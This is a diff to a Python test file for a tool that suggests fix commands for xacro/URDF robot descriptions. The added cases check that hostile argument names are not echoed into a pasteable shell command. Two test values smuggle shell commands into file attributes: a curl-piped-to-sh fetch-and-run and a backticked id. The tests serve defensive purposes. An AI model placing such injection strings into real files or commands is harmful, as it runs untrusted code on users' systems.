@@ -195,8 +195,12 @@ def test_the_fix_of_a_source_using_find_says_to_resolve_it_outside_ros(
             "",
         ),
         ([(J2_ORIGIN, J2_ORIGIN.replace('rpy="0 0 0"', 'rpy="0 ${pi/2} 0"'))], ""),
+        # a name no xacro source writes is not put in a command the reader may paste into a
+        # shell: a hostile URDF's `;`, `|`, `$` and backticks would run there
+        ([(L1_MESH, 'filename="$(arg a;curl${IFS}x.sh|sh;)/link_1.stl"')], ""),
+        ([(J2_ORIGIN, J2_ORIGIN.replace('rpy="0 0 0"', 'rpy="0 $(arg `id`) 0"'))], ""),
     ],
-    ids=["mesh-folder", "other", "declared", "none"],
+    ids=["mesh-folder", "other", "declared", "none", "shell", "backticks"],
 )
 def test_the_fix_gives_the_arguments_the_source_uses_and_does_not_declare(
     repo: Path, edits: list[tuple[str, str]], command: str
